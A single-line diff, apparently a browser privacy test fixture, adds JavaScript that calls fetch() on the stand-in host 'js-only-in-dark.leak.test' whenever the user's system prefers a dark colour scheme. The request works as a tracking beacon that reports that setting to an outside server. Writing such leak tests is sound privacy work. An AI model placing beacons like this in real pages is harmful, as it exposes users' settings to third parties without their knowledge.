@@ -1,0 +1,1 @@
+if (matchMedia("(prefers-color-scheme: dark)").matches) fetch("https://js-only-in-dark.leak.test/")
